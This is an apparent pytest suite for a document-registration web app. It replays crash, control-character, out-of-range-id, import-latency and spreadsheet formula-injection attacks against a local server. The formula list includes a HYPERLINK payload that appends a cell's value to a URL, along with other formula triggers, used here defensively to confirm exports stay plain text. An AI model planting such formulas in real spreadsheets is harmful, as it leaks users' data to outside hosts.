"""Attacks replayed against the real server on 127.0.0.1 (issue 16): kill -9 during a burst of
registrations, control characters and Excel formulas, ids out of range on every GET route, and
another writer's latency while a large Excel import runs.

Every wait is bounded and generous (a busy 2-core CI machine); no fixed sleep decides a result.
"""

from __future__ import annotations

import datetime as dt
import io
import sqlite3
import threading
import time
from collections import Counter
from pathlib import Path

import pytest
import requests
from jobs_support import wait_for
from liveserver import LiveServer, csrf, demo_server
from openpyxl import load_workbook
from webfixtures import HUGE_ID, huge_id_requests, make_app

from docgen.db import connect
from docgen.documents import archive
from docgen.kinds import catalog
from docgen.registry.excel import exporting, sheets

CLIENTS = 16
KIND = "curator-order"
CONTROLS = ("\x00", "\x0b", "\x1f")
FORMULAS = ('=HYPERLINK("http://x?"&A2,"Нажмите")', "+SUM(1,2)", "-2+3", "@SUM(1)")
IMPORT_ROWS = 3000
WRITER_SECONDS = 5.0
IMPORT_WATCH_SECONDS = 40.0


@pytest.fixture
def server(tmp_path: Path):
    running = demo_server(tmp_path)
    yield running
    running.stop()


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def read_only(database: str) -> sqlite3.Connection:
    return sqlite3.connect(f"file:{database}?mode=ro", uri=True, timeout=30)


def registered_count(database: str) -> int:
    with read_only(database) as conn:
        return conn.execute("SELECT count(*) FROM journal").fetchone()[0]


def pending_pdfs(database: str) -> int:
    with read_only(database) as conn:
        return conn.execute("SELECT count(*) FROM pdf_renders").fetchone()[0]


# --- kill -9 during a burst of registrations ----------------------------------------------


def test_kill_9_during_a_burst_of_registrations_leaves_a_whole_journal(tmp_path: Path):
    server = demo_server(tmp_path)
    database = server.env["DOCGEN_DATABASE"]
    token = server.token("director")
    before = registered_count(database)
    answered: list[tuple[str, int]] = []
    stopping = threading.Event()

    def client() -> None:
        http = requests.Session()
        http.headers.update(bearer(token))
        body = {"kind": KIND, "input": catalog.get(KIND).sample()}
        while not stopping.is_set():
            try:
                draft = http.post(f"{server.url}/api/documents", json=body, timeout=120)
                answered.append(("create", draft.status_code))
                if draft.status_code != 201:
                    return
                done = http.post(
                    f"{server.url}/api/documents/{draft.json()['id']}/register",
                    json={},
                    timeout=120,
                )
                answered.append(("register", done.status_code))
            except requests.RequestException:
                return  # the server was killed under this request

    threads = [threading.Thread(target=client) for _ in range(CLIENTS)]
    try:
        for thread in threads:
            thread.start()
        wait_for(
            lambda: registered_count(database) >= before + CLIENTS // 2,
            120,
            "registrations during the burst",
            every=0.05,
        )
    finally:
        stopping.set()
        server.kill()
        for thread in threads:
            thread.join(60)
    assert answered and all(status in (200, 201) for _, status in answered), Counter(answered)

    again = LiveServer(server.env, tmp_path / "server2.log")
    try:
        draft = again.call(
            "POST", "/api/documents", {"kind": KIND, "input": catalog.get(KIND).sample()}, token
        )
        after = again.call("POST", f"/api/documents/{draft['id']}/register", {}, token)
        # PDFs are made after the commit by the job queue: those the killed server left
        # pending are made by the restarted one.
        wait_for(lambda: pending_pdfs(database) == 0, 120, "the pending PDFs are made", every=0.2)
    finally:
        again.stop()
    assert after["status"] == "registered"

    db = connect(database)
    try:
        assert db.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        # A failed allocation rolls its transaction back and takes no number (journal.register):
        # every series and year runs 1..N with no duplicate and no gap.
        journals: dict[tuple, list[int]] = {}
        for row in db.query("SELECT series_id, year, seq, number FROM journal ORDER BY seq"):
            journals.setdefault((row["series_id"], row["year"]), []).append(row["seq"])
        assert journals
        for key, seqs in journals.items():
            assert seqs == list(range(1, len(seqs) + 1)), (key, seqs)
        numbers = [row["number"] for row in db.query("SELECT number FROM journal")]
        assert len(numbers) >= before + CLIENTS // 2 + 1
        mismatched = list(
            db.query(
                "SELECT journal.id FROM journal JOIN documents d ON d.id = journal.document_id "
                "WHERE d.number IS NOT journal.number OR d.status = 'draft'"
            )
        )
        assert mismatched == []
        # The journal's last number is the one the restarted server gave.
        assert after["number"] in numbers
        # Every registered document has its frozen DOCX and PDF, and every stored file still
        # hashes to its name when read through the archive.
        registered = list(
            db.query(
                "SELECT d.id, v.docx_sha256, v.pdf_sha256 FROM documents d "
                "LEFT JOIN versions v ON v.document_id = d.id AND v.n = d.registered_version "
                "WHERE d.status = 'registered'"
            )
        )
        assert len(registered) >= before + CLIENTS // 2 + 1
        for row in registered:
            assert row["docx_sha256"] and row["pdf_sha256"], row
            assert archive.get_file(db, row["docx_sha256"])[:2] == b"PK", row
            assert archive.get_file(db, row["pdf_sha256"])[:5] == b"%PDF-", row
        for row in db.query("SELECT sha256 FROM files"):
            archive.get_file(db, row["sha256"])
    finally:
        db.close()


# --- control characters and Excel formulas ------------------------------------------------


def test_control_characters_in_a_name_are_refused_and_nothing_answers_500(server: LiveServer):
    http = requests.Session()
    http.headers.update(bearer(server.token("curator")))
    page = server.signed_in("curator")
    for char in CONTROLS:
        name = f"Ив{char}анов"
        body = {"surname": name, "name": "Пётр", "gender": "m", "category": "педагог"}
        answer = http.post(f"{server.url}/api/people", json=body, timeout=60)
        assert answer.status_code == 422, (char, answer.status_code, answer.text[:300])
        message = answer.json()["fields"]["surname"][0]
        assert "управляющий символ" in message and f"U+{ord(char):04X}" in message, message

        form = page.get(f"{server.url}/registry/people/new", timeout=60)
        assert form.status_code == 200
        sent = page.post(
            f"{server.url}/registry/people/new",
            data={**body, "gender": "m", "csrf_token": csrf(form.text)},
            timeout=60,
            allow_redirects=False,
        )
        assert sent.status_code == 422, (char, sent.status_code)
        assert f"управляющий символ U+{ord(char):04X}" in sent.text
    # Nothing was stored, and the pages that list people and the export still answer.
    people = http.get(f"{server.url}/api/people", timeout=60).json()
    assert not [p["surname"] for p in people if any(char in p["surname"] for char in CONTROLS)]
    for path in ("/registry/people", "/registry/export.xlsx"):
        assert page.get(f"{server.url}{path}", timeout=60).status_code == 200, path


def test_the_registry_export_holds_no_formula_after_formulas_came_through_the_api(
    server: LiveServer,
):
    http = requests.Session()
    http.headers.update(bearer(server.token("curator")))
    stored = []
    for n, formula in enumerate(FORMULAS):
        body = {
            "surname": formula,
            "name": "Анна",
            "gender": "f",
            "category": "педагог",
            "position": formula,
            "partner_org": formula,
            "birth_date": f"198{n}-01-01",
        }
        answer = http.post(f"{server.url}/api/people", json=body, timeout=60)
        if answer.status_code == 422:  # a surname is letters only: the formula stays in text
            body["surname"] = f"Формулова{'абвг'[n]}"
            answer = http.post(f"{server.url}/api/people", json=body, timeout=60)
        assert answer.status_code == 201, (formula, answer.status_code, answer.text[:300])
        stored.append(formula)
    export = server.signed_in("curator").get(f"{server.url}/registry/export.xlsx", timeout=60)
    assert export.status_code == 200
    workbook = load_workbook(io.BytesIO(export.content))
    formulas = [
        f"{ws.title}!{cell.coordinate}"
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {cell.value for ws in workbook.worksheets for row in ws.iter_rows() for cell in row}
    # The values are there, as text a secretary reads, not as something Excel runs.
    assert set(stored) <= texts


# --- ids out of range -----------------------------------------------------------------------


def test_ids_out_of_range_on_every_get_route_answer_404_over_http(
    server: LiveServer, tmp_path: Path
):
    (tmp_path / "routes").mkdir()
    app = make_app(tmp_path / "routes")
    pages = [(m, url) for m, url, _ in huge_id_requests(app, api=False) if m == "GET"]
    api = [(m, url) for m, url, _ in huge_id_requests(app, api=True) if m == "GET"]
    assert len(pages) >= 10 and len(api) >= 8, (pages, api)
    page = server.signed_in("admin")
    http = requests.Session()
    http.headers.update(bearer(server.token("admin")))
    answers = {}
    for client, routes in ((page, pages), (http, api)):
        for _, url in routes:
            for huge in (str(HUGE_ID), str(2**63)):
                path = url.replace(str(HUGE_ID), huge)
                response = client.get(f"{server.url}{path}", timeout=60, allow_redirects=False)
                answers[path] = response.status_code
    assert {path: status for path, status in answers.items() if status != 404} == {}


# --- an Excel import does not hold other writers back ------------------------------------------

SYLLABLES = "абвгдежзиклмнопрстуфхцчшэюя"


def surname(n: int) -> str:
    letters = ""
    while True:
        n, rest = divmod(n, len(SYLLABLES))
        letters += SYLLABLES[rest]
        if n == 0:
            break
    return "Импортова" + letters


def large_workbook(rows: int) -> bytes:
    wb = load_workbook(io.BytesIO(exporting.blank_workbook()))
    for n in range(rows):
        wb[sheets.PEOPLE].append(
            [
                surname(n),
                "Анна",
                "Ивановна",
                "ж",
                dt.date(1960 + n % 40, 1 + n % 12, 1 + n % 28),
                "педагог",
                "учитель",
            ]
        )
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_another_writer_waits_seconds_at_most_while_a_large_import_runs(server: LiveServer):
    content = large_workbook(IMPORT_ROWS)
    page = server.signed_in("curator")
    token = csrf(page.get(f"{server.url}/registry/import", timeout=60).text)
    writer = requests.Session()
    writer.headers.update(bearer(server.token("director")))
    person_id = writer.get(f"{server.url}/api/people", timeout=60).json()[0]["id"]
    result: dict[str, object] = {}

    def run_import() -> None:
        started = time.monotonic()
        try:
            response = page.post(
                f"{server.url}/registry/import",
                data={"csrf_token": token},
                files={"file": ("реестр.xlsx", content)},
                timeout=600,
            )
            # The import runs as a job; follow its page, as the page's script does, until it ends.
            while 'id="import-running"' in response.text:
                time.sleep(0.2)
                response = page.get(response.url, timeout=600)
            result["status"] = response.status_code
            result["text"] = response.text
        except requests.RequestException as err:  # the server is stopped at the end
            result["error"] = repr(err)
        result["seconds"] = time.monotonic() - started

    importer = threading.Thread(target=run_import, daemon=True)
    importer.start()
    latencies: list[float] = []
    statuses: list[int] = []
    watch_until = time.monotonic() + IMPORT_WATCH_SECONDS
    n = 0
    while importer.is_alive() and time.monotonic() < watch_until:
        n += 1
        started = time.monotonic()
        answer = writer.patch(
            f"{server.url}/api/people/{person_id}", json={"position": f"учитель {n}"}, timeout=120
        )
        latencies.append(time.monotonic() - started)
        statuses.append(answer.status_code)
    finished = not importer.is_alive()
    print(
        f"import of {IMPORT_ROWS} rows: {'finished' if finished else 'still running'} "
        f"after {result.get('seconds', IMPORT_WATCH_SECONDS):.1f} s; "
        f"{len(latencies)} writes, the slowest {max(latencies, default=0):.2f} s"
    )
    assert len(latencies) >= 3, "the import ended before the writer could measure anything"
    assert set(statuses) == {200}, Counter(statuses)
    assert max(latencies) < WRITER_SECONDS, sorted(latencies)[-5:]
    if finished:
        assert result.get("status") == 200, (result.get("status"), str(result.get("text"))[:500])
